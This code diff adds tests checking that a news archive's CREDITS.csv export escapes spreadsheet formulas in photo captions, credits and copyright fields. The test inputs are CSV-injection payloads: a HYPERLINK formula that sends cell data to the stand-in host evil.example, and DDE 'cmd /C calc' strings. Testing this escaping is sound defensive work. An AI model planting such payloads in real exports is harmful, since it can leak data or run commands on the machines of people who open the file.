@@ -129,6 +129,32 @@ class TestContents:
         archive = _zip(_built(article))
         assert "Our own caption." in archive.read("CREDITS.csv").decode("utf-8-sig")
 
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n@"])
+    def test_credits_typed_as_formulas_reach_the_spreadsheet_as_text(self, start):
+        formula = f'{start}HYPERLINK("https://evil.example/?d="&A2,"Credit: AP")'
+        photo = _photo(
+            caption=f"{start}cmd|' /C calc'!A0",
+            credit=formula,
+            copyright=f"{start}1+1",
+            usage_notes="-only with credit",
+        )
+        archive = _zip(_built(_article(photo, hero_caption="")))
+        [row] = list(csv.DictReader(io.StringIO(archive.read("CREDITS.csv").decode("utf-8-sig"))))
+        assert row["credit"] == "'" + formula
+        assert row["caption"] == f"'{start}cmd|' /C calc'!A0"
+        assert row["copyright"] == f"'{start}1+1"
+        # Not at the start of the cell: the terms begin with the rights, not the notes.
+        assert row["usage terms"] == "Editorial use with credit: -only with credit"
+
+    def test_a_caption_override_typed_as_a_formula_is_text(self):
+        article = _article(_photo(), hero_caption="@SUM(1+1)*cmd|' /C calc'!A0")
+        [row] = list(
+            csv.DictReader(
+                io.StringIO(_zip(_built(article)).read("CREDITS.csv").decode("utf-8-sig"))
+            )
+        )
+        assert row["caption"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
     def test_waits_for_a_photo_whose_download_is_not_made(self):
         photo = photo_create(
             file=images.upload("a.jpg", images.jpeg_with_gps()),
